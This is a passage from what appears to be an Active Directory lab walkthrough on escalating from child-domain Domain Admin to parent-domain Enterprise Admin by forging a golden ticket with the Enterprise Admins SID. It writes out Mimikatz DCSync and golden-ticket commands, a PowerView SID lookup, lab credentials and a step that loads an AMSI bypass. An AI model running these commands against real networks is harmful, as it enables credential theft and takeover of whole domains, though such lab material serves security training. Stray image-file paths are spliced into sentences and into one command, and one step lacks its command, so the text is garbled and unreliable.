Krbtgt hash


How it works

Once you gain Domain Adminprivileges within the child domain its possible to get Enterprise Admin in the parent domain by generating a golden ticket in the child domain with the SID of the Enterprise Admin group.


Executing the attack

The attack is executed from the perspective of already gaining domain admin privileges. This is done in the unconstrained delegation section:

pageUnconstrained Delegation
  1. For easy execution, login on WS01 as the Administrator user with the password Welcome01!.

  2. Start PowerShell as Administrator and load a amsi bypass and MimiKatz into memory.

To execute the attack we need a couple bits of information:

  • The hashof the krbtgt user.

  • The SID of the Enterprise Admins group.

  • The SID of the child domain.

3. Execute a DCsync with MimiKatz and only retrieve the krbtgt hash:

Invoke-MimiKatz -Command '"lsadump::dcsync /user:amsterdam\krbtgt/"'

4. Retrieve the SID of the enterprise Admins group, using PowerView:

Get-DomainGroup "Enterprise Admins" -Domain bank.local | Select-Object samaccountname, objectsid

5. Retrieve the domain SID from the child domain, usingPowerView:


6. Create a golden ticket with MimiKatz and inject it intothe current session:Invoke-Mimikatz -Command '"kerberos::golden /user:Administrator /domain:<FQDN CHILD DOMAIN> /sid:<CHILD DOMAIN SID> /krbtgt:<HASH> /sids:<SIDS OF ENTERPRISE ADMIN GROUP OF TARGET> /ptt"'

7. The ticket injected successfully, now we can dir the c$ directory to check if our user has read/write accessto the C disk:




Last updated